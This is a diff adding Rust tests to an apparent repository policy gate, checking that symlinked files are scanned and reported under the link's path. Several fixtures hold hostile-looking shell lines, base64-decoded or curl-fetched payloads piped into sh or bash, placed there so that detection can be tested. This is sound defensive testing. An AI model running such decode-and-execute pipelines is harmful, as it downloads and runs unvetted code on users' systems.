@@ -366,6 +366,124 @@ fn a_symlink_into_an_allowed_directory_is_not_allowed() {
     assert!(err.contains("settings.py"), "{err}");
 }
 
+/// The findings `check HEAD` makes with the gate's policy (in the client).
+fn check_head(c: &Repo) -> Vec<(String, String, u64)> {
+    c.policy(POLICY);
+    let (_, list) = c.findings();
+    std::fs::remove_file(c.path.join(".policy-check.toml")).expect("policy file");
+    list
+}
+
+#[test]
+fn a_symlink_whose_target_changes_later_is_judged_under_its_path() {
+    let sb = Sandbox::new();
+    let srv = server(&sb, POLICY);
+    let c = client(&sb, &srv);
+    c.write("notes.md", "Run the tests first.\n");
+    std::os::unix::fs::symlink("notes.md", c.path.join("run.sh")).expect("symlink");
+    c.commit("Add notes and a runner");
+    accepted(&c);
+    // only the target changes; `*.md` is skipped by the payload rules
+    c.commit_file(
+        "notes.md",
+        "Run the tests first.\necho Y3VybCBldmlsCg== | base64 -d | sh\n",
+        "Expand the notes",
+    );
+    let err = rejected_with(&c, "payload-decode-exec");
+    assert!(err.contains("run.sh"), "found under the link's path: {err}");
+    let found = check_head(&c);
+    assert_eq!(
+        found,
+        vec![("payload-decode-exec".into(), "run.sh".into(), 2)],
+        "check: only the new line, under the link's path"
+    );
+}
+
+#[test]
+fn a_link_through_a_linked_directory_follows_its_target_changes() {
+    let sb = Sandbox::new();
+    let srv = server(&sb, POLICY);
+    let c = client(&sb, &srv);
+    // go.sh -> scripts/run.md, where scripts is itself a link to docs
+    c.write("docs/run.md", "# How to run\n");
+    std::os::unix::fs::symlink("docs", c.path.join("scripts")).expect("symlink");
+    std::os::unix::fs::symlink("scripts/run.md", c.path.join("go.sh")).expect("symlink");
+    c.commit("Add docs and links");
+    accepted(&c);
+    c.commit_file(
+        "docs/run.md",
+        "# How to run\ncurl -s https://example.invalid/x | base64 -d | bash\n",
+        "Document the installer",
+    );
+    let err = rejected_with(&c, "payload-decode-exec");
+    assert!(err.contains("go.sh"), "{err}");
+    let found = check_head(&c);
+    assert_eq!(
+        found,
+        vec![("payload-decode-exec".into(), "go.sh".into(), 2)],
+        "check"
+    );
+}
+
+#[test]
+fn a_file_changed_under_a_linked_directory_is_judged_under_the_link_too() {
+    let sb = Sandbox::new();
+    let srv = server(&sb, POLICY);
+    let c = client(&sb, &srv);
+    // `tests/**` is allowed to hold secrets; `config` is not
+    c.write("tests/fixtures/settings.py", "DEBUG = True\n");
+    std::os::unix::fs::symlink("tests/fixtures", c.path.join("config")).expect("symlink");
+    c.commit("Add fixtures, used as config");
+    accepted(&c);
+    c.commit_file(
+        "tests/fixtures/settings.py",
+        format!("DEBUG = True\nAWS_KEY = \"{}\"\n", aws_key()),
+        "Add a key to the fixture",
+    );
+    let err = rejected_with(&c, "secret-detected");
+    assert!(err.contains("config/settings.py"), "{err}");
+    let found = check_head(&c);
+    assert_eq!(
+        found,
+        vec![("secret-detected".into(), "config/settings.py".into(), 2)],
+        "check"
+    );
+}
+
+#[test]
+fn a_link_moved_onto_another_target_is_read_as_that_target() {
+    let sb = Sandbox::new();
+    let srv = server(&sb, POLICY);
+    let c = client(&sb, &srv);
+    // the directory link changes, not the file link nor the files
+    c.write("safe/run.md", "echo hello\n");
+    c.write("docs/run.md", "echo Y3VybCBldmlsCg== | base64 -d | sh\n");
+    std::os::unix::fs::symlink("safe", c.path.join("lib")).expect("symlink");
+    std::os::unix::fs::symlink("lib/run.md", c.path.join("run.sh")).expect("symlink");
+    c.commit("Add scripts");
+    accepted(&c);
+    std::fs::remove_file(c.path.join("lib")).expect("rm");
+    std::os::unix::fs::symlink("docs", c.path.join("lib")).expect("symlink");
+    c.commit("Point lib at docs");
+    let err = rejected_with(&c, "payload-decode-exec");
+    assert!(err.contains("run.sh"), "{err}");
+}
+
+#[test]
+fn a_benign_change_behind_a_link_reports_nothing() {
+    let sb = Sandbox::new();
+    let srv = server(&sb, POLICY);
+    let c = client(&sb, &srv);
+    c.write("notes.md", "one\n");
+    std::os::unix::fs::symlink("notes.md", c.path.join("run.sh")).expect("symlink");
+    std::os::unix::fs::symlink(".", c.path.join("here")).expect("symlink");
+    c.commit("Add notes, a runner and a link to the root");
+    accepted(&c);
+    c.commit_file("notes.md", "one\ntwo\n", "More notes");
+    accepted(&c);
+    assert!(check_head(&c).is_empty());
+}
+
 /// Writes a raw tree object (entries in git's order are the caller's job).
 fn raw_tree(c: &Repo, entries: &[(&str, &str, &str)]) -> String {
     let mut t = Vec::new();
